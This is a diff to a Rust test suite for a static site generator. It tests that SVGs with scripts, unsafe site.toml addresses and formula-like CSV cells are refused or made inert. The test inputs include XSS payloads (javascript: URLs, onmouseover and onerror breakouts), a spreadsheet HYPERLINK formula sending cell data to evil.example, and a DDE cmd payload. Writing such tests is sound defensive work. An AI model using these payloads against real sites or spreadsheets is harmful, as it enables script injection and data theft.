@@ -715,12 +715,118 @@ fn svg_files_with_scripts_are_refused() {
         "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>one = two; online &#44032;</text></svg>",
     );
     let all = errors(&s);
-    for (name, _) in cases {
+    // Since issue 13 SVGs are parsed (src/content/svg/): each error names what it found,
+    // and a drawing without the SVG namespace is not a drawing (tests/svg.rs has the rest).
+    for (name, why) in [
+        ("script.svg", "the SVG element `<script>` is not allowed"),
+        (
+            "onload.svg",
+            "the attribute `onload` of `<svg>` is not allowed",
+        ),
+        (
+            "handler.svg",
+            "the file is not an SVG drawing: its root element `<svg>` is not `<svg xmlns=",
+        ),
+        (
+            "link.svg",
+            "the SVG is not well-formed XML: an unknown namespace prefix 'xlink'",
+        ),
+        (
+            "entity.svg",
+            "the file is not an SVG drawing: its root element `<svg>` is not `<svg xmlns=",
+        ),
+        (
+            "foreign.svg",
+            "the SVG is not well-formed XML: expected a quote",
+        ),
+    ] {
         let line = line_for(&all, &format!("content/images/{name}"));
-        assert!(
-            line.contains("error[E000]: the SVG file contains"),
-            "{line}"
-        );
+        assert!(line.contains(&format!("error[E000]: {why}")), "{line}");
     }
     assert!(!all.contains("fine.svg"), "{all}");
+}
+
+// ----- addresses in site.toml, CSV cells (issue 13) -----
+
+/// `organization.url` and the base URL land on every page: anything but an http(s)
+/// address with a real host is refused at its line, through the binary.
+#[test]
+fn site_toml_addresses_are_checked_at_their_line() {
+    let s = SiteTest::from_fixture("build/basic");
+    let good = std::fs::read_to_string(s.root().join("site.toml")).unwrap();
+    let cases = [
+        (
+            "url = \"https://city.example.org/\"",
+            "url = \"javascript:alert(document.domain)\"",
+            "site.toml:16:1: error[E010]: organization.url: `javascript:alert(document.domain)` is not an http:// or https:// address",
+        ),
+        (
+            "url = \"https://city.example.org/\"",
+            "url = \"https://city.example.org/\\\" onmouseover=\\\"alert(1)\"",
+            "site.toml:16:1: error[E010]: organization.url: `https://city.example.org/\" onmouseover=\"alert(1)` contains the character `\"`",
+        ),
+        (
+            "base_url = \"https://example.org/\"",
+            "base_url = \"https://press:secret@example.org/\"",
+            "site.toml:1:1: error[E010]: base_url: base URL `https://press:secret@example.org/` contains a user name or password",
+        ),
+        (
+            "email = \"press@example.org\"",
+            "email = \"<script>@example.org\"",
+            "organization.contact.email: `<script>@example.org` is not an e-mail address",
+        ),
+        (
+            "phone = \"062-000-0000\"",
+            "phone = \"062<img src=x onerror=alert(1)>\"",
+            "organization.contact.phone: `062<img src=x onerror=alert(1)>` is not a phone number",
+        ),
+    ];
+    for (from, to, want) in cases {
+        assert!(good.contains(from), "{from}");
+        s.write("site.toml", &good.replace(from, to));
+        let (code, err) = s.cli(&[], &[]);
+        assert_eq!(code, 1, "{to}: {err}");
+        assert!(err.contains(want), "{to}: expected\n{want}\nin\n{err}");
+    }
+    s.write("site.toml", &good);
+    s.build();
+    assert_eq!(
+        s.html("index.html")
+            .attr("footer a[href^=\"https://city\"]", "href")
+            .as_deref(),
+        Some("https://city.example.org/")
+    );
+}
+
+/// A milestone whose title is a spreadsheet formula reaches milestones.csv as text.
+#[test]
+fn csv_cells_that_look_like_formulas_are_made_inert() {
+    let s = SiteTest::from_fixture("milestones/basic");
+    let yaml = std::fs::read_to_string(s.root().join("content/milestones.yaml")).unwrap();
+    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"열기\")";
+    let yaml = yaml
+        .replace("\"알파 착수\"", &format!("'{formula}'"))
+        .replace("\"Alpha starts\"", "\"@SUM(1+1)\"")
+        .replace("\"The alpha step.\"", "\"-2+3 and +cmd|' /C calc'!A0\"");
+    s.write("content/milestones.yaml", &yaml);
+    s.build();
+    let bytes = std::fs::read(s.out().join("milestones.csv")).unwrap();
+    let mut r = csv::Reader::from_reader(&bytes[3..]);
+    let header = r.headers().unwrap().clone();
+    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let alpha = r
+        .records()
+        .map(Result::unwrap)
+        .find(|row| &row[0] == "alpha")
+        .unwrap();
+    assert_eq!(&alpha[col("title_ko")], format!("'{formula}"));
+    assert_eq!(&alpha[col("title_en")], "'@SUM(1+1)");
+    assert_eq!(
+        &alpha[col("description_en")],
+        "'-2+3 and +cmd|' /C calc'!A0"
+    );
+    // Ordinary cells are untouched: dates, ids, text with a dash inside.
+    assert_eq!(&alpha[col("planned")], "2021-03");
+    // The JSON keeps the text as written.
+    assert!(s.read("milestones.json").contains("=HYPERLINK"));
 }
